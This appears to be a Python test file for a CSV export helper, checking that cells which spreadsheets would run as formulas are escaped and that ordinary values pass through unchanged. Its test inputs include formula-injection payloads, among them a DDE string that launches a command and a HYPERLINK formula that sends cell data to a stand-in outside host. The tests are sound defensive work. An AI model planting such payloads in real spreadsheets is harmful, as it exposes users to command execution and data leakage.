"""Tables are read back as they were written, and no cell of them is a formula."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ringful.http.tables import cell, table

texts = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))


@given(st.lists(st.lists(texts, min_size=2, max_size=2)))
def test_a_reader_of_csv_gets_every_cell(found: list[list[str]]) -> None:
    written = table(("a", "b"), [{"a": one, "b": other} for one, other in found])
    read = list(csv.reader(io.StringIO(written, newline="")))
    assert read == [["a", "b"], *([cell(one), cell(other)] for one, other in found)]
    assert written.startswith("a,b\r\n")
    assert written.endswith("\r\n")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://x.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "  =1",
        "\n=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20x",
        "+",
        "-",
        "+1 512",
        "+1512\n=1",
        "+٣",
        "--1",
    ],
)
def test_what_would_be_a_formula_is_text(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["+15125551234", "15125551234", "-1", "0.0182", "-0.5", "anonymous", "", "a=b"]
)
def test_numbers_and_words_stay_as_they_are(text: str) -> None:
    assert cell(text) == text


def test_what_is_no_text() -> None:
    assert [cell(one) for one in (None, True, False, 7, 0.5, [], ["a.b", "c.d"], ("=1",))] == [
        "",
        "true",
        "false",
        "7",
        "0.5",
        "",
        "a.b c.d",
        "'=1",
    ]
